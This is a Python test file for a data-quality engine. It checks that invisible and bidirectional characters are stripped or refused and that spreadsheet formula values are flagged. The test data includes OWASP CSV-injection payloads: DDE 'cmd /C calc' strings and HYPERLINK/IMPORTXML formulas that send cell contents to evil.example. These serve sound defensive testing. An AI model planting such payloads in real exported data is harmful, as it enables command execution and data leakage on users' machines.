"""The engine's text normalisation and formula rule (issue 24).

Each character class is either removed (and the value stored without it) or refused with its
reason code; formula payloads of OWASP's CSV-injection guidance are refused while phone
numbers, signed numbers and hyphenated text are kept. The vectorised shortcuts agree with plain
per-value definitions written here."""

from __future__ import annotations

import re
import unicodedata

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quality.engine import check_table
from quality.text import formula_mask, normalise_text
from schemas.contracts import Contract, load_contracts
from schemas.identifiers import BIDI_CHARS, HIDDEN_CHARS, REMOVED_CHARS
from tests.quality.conftest import AS_OF, person, to_table

# --- plain per-value definitions ------------------------------------------------------------


def _removed(value: str) -> str:
    return "".join(c for c in value if ord(c) not in REMOVED_CHARS)


def _refused(value: str) -> set[str]:
    trimmed = _removed(value).strip(" \t\n\r\f\v\x1c\x1d\x1e\x1f\x85\xa0\u3000\u2028\u2029")
    codes = set()
    if any(ord(c) in BIDI_CHARS for c in trimmed):
        codes.add("BIDI_CONTROL")
    if any(ord(c) in HIDDEN_CHARS for c in trimmed):
        codes.add("INVISIBLE_CHAR")
    if any(unicodedata.category(c) == "Cc" and c != "\t" for c in trimmed):
        codes.add("CONTROL_CHAR")
    return codes


_QUOTES = "'\"\u2018\u2019\u201c\u201d\uff02\uff07"


def _formula(value: str) -> bool:
    """A spreadsheet would evaluate it: a trigger after leading whitespace and quotes, and more
    than digits, spaces and ``+-.,()/`` (which cannot call or refer to anything)."""
    rest = value.lstrip()
    while rest and (rest[0] in _QUOTES or rest[0].isspace()):
        rest = rest[1:]
    if not rest or rest[0] not in "=+-@":
        return False
    return re.fullmatch(r"[0-9+\-.,()/ ]+", value) is None


# --- character classes ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "stored"),
    [
        ("\u200b张伟\u200b", "张伟"),  # zero-width space around a name
        ("张\u200c伟\u200d", "张伟"),  # zero-width non-joiner and joiner
        ("舜耕路\ufeff1号", "舜耕路1号"),  # BOM inside a field
        ("舜\u00ad耕\u2060路\u2062", "舜耕路"),  # soft hyphen, word joiner, invisible times
        ("tab\tinside", "tab\tinside"),  # a tab inside text is ordinary whitespace
        ("张\ufe00伟\U000f0001", "张\ufe00伟\U000f0001"),  # variation selector, private use
    ],
)
def test_harmless_invisible_characters_are_removed(value: str, stored: str) -> None:
    text, refused = normalise_text(pa.array([value, "plain"]))
    assert text.to_pylist() == [stored, "plain"]
    assert not any(mask.any() for _, mask in refused)


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("\u202e伟张", "BIDI_CONTROL"),  # right-to-left override
        ("a\u202ab\u202c", "BIDI_CONTROL"),  # embedding and pop
        ("a\u202d", "BIDI_CONTROL"),  # left-to-right override
        ("\u2066甲\u2069", "BIDI_CONTROL"),  # isolates
        ("\u2067a\u2068b", "BIDI_CONTROL"),
        ("张\u200e伟", "BIDI_CONTROL"),  # left-to-right mark
        ("张\u200f伟", "BIDI_CONTROL"),  # right-to-left mark
        ("张\u061c伟", "BIDI_CONTROL"),  # Arabic letter mark
        ("张伟\U000e0041", "INVISIBLE_CHAR"),  # tag characters (hidden ASCII)
        ("\ufff9a\ufffab\ufffb", "INVISIBLE_CHAR"),  # interlinear annotation
        ("a\u206ab", "INVISIBLE_CHAR"),  # deprecated format character
        ("张\x00伟", "CONTROL_CHAR"),
        ("张\x01伟", "CONTROL_CHAR"),
        ("路\x1b[31m", "CONTROL_CHAR"),
        ("a\rb", "CONTROL_CHAR"),  # a line break inside a value
        ("张\x7f伟", "CONTROL_CHAR"),
        ("张\x9b伟", "CONTROL_CHAR"),  # C1
    ],
)
def test_characters_that_change_what_is_read_are_refused(value: str, code: str) -> None:
    _, refused = normalise_text(pa.array(["plain", value]))
    flagged = {c: mask.tolist() for c, mask in refused}
    assert flagged[code] == [False, True]
    assert all(not m[0] and (m[1] == (c == code)) for c, m in flagged.items())


def test_surrounding_line_breaks_are_only_whitespace() -> None:
    _, refused = normalise_text(pa.array(["\r\n张伟\r\n", "\x1c张伟"]))
    assert not any(mask.any() for _, mask in refused)


SUSPECTS = sorted(REMOVED_CHARS | BIDI_CHARS | HIDDEN_CHARS | {0, 1, 9, 10, 13, 0x1F, 0x7F, 0x85})
# and characters whose UTF-8 bytes start like a suspect's: no-break space, curly quotes, full-
# width comma, superscript zero, U+FFFD, an ideographic variation selector (kept), CJK ext. B
NEIGHBOURS = "\xa0\u201c\u201d\uff0c\u3002\u2070\ufffd\U000e0100\U00020000\u0600"
TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from([chr(c) for c in SUSPECTS]), st.sampled_from("张伟a1 -=" + NEIGHBOURS)
    ),
    max_size=8,
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), TEXT), max_size=30), st.integers(0, 3))
def test_normalisation_matches_the_per_value_definition(values: list[str | None], cut: int) -> None:
    arr = pa.array(["x"] * cut + values, pa.string()).slice(cut)  # sliced input too
    text, refused = normalise_text(arr)
    assert text.to_pylist() == [None if v is None else _removed(v) for v in values]
    got = [set() for _ in values]
    for code, mask in refused:
        for i in mask.nonzero()[0]:
            got[i].add(code)
    assert got == [set() if v is None else _refused(v) for v in values]


# --- formulas (OWASP CSV injection) ---------------------------------------------------------

OWASP = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '"=1+1',
    "\u201c=1+1",
    " \t @A1",
    "-cmd",
    "+A1",
]
LEGIT = [
    "+86 138 0013 8000",
    "+8613800138000",
    "+86-551-6262-0000",
    "+86 (551) 6262 0000",
    "-12.50",
    "-",
    "--",
    "Jean-Paul",
    "淮南市田家庵区舜耕路12-3号",
    "3-2-1",
    "a=b",
    "user@example.org",
    "张伟",
]


def test_owasp_payloads_are_formulas_and_legitimate_values_are_not() -> None:
    got = formula_mask(pa.array([*OWASP, *LEGIT, None, ""])).tolist()
    assert got == [True] * len(OWASP) + [False] * (len(LEGIT) + 2)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(alphabet=st.sampled_from("=+-@'\" \t0189.,()/a张\u201c\uff02|!"), max_size=6),
            st.sampled_from(OWASP + LEGIT),
        ),
        max_size=30,
    )
)
def test_formula_rule_matches_the_per_value_definition(values: list[str | None]) -> None:
    """On the trimmed text the rule is given (as the engine gives it)."""
    trimmed = [None if v is None else v.strip() for v in values]
    got = formula_mask(pa.array(trimmed, pa.string())).tolist()
    assert got == [v is not None and _formula(v) for v in trimmed]


@pytest.fixture(scope="module")
def persons() -> Contract:
    return load_contracts()["ps_household"]


def test_formulas_are_refused_in_text_columns_only(persons: Contract) -> None:
    """A payload in a free-text column is ``FORMULA``; in a typed column it does not parse
    (``TYPE``); a signed number in a typed column is a number."""
    rows = [person(i) for i in range(4)]
    rows[0]["household_address"] = "-2+3+cmd|' /C calc'!A0"
    rows[1]["family_size"] = "-2+3+cmd|' /C calc'!A0"
    rows[2]["name"] = '\u200b=HYPERLINK("http://evil.example")'  # hidden behind a ZWSP
    rows[3]["household_address"] = "北京市朝阳区某街道12-3号"
    result = check_table(to_table(rows), persons, as_of=AS_OF)
    assert result.reasons.to_pylist() == [
        ["household_address:FORMULA"],
        ["family_size:TYPE"],
        ["name:FORMULA"],
        [],
    ]


def test_closed_set_columns_refuse_payloads_by_their_own_rule(persons: Contract) -> None:
    """No shipped code starts with a trigger or a quote, so a payload in a code-table or
    identifier column fails that rule; it is quarantined either way."""
    from schemas.library import code_table, code_table_names

    for name in code_table_names():
        assert not [c for c in code_table(name) if c[:1] in "=+-@'\"\t\r "], name
    rows = [person(i) for i in range(2)]
    rows[0]["sex"] = "=1+1"
    rows[1]["id_number"] = "@SUM(1)"
    result = check_table(to_table(rows), persons, as_of=AS_OF)
    assert result.reasons.to_pylist() == [
        ["sex:CODE_TABLE", "sex:ID_MISMATCH"],
        ["id_number:FORMAT"],
    ]
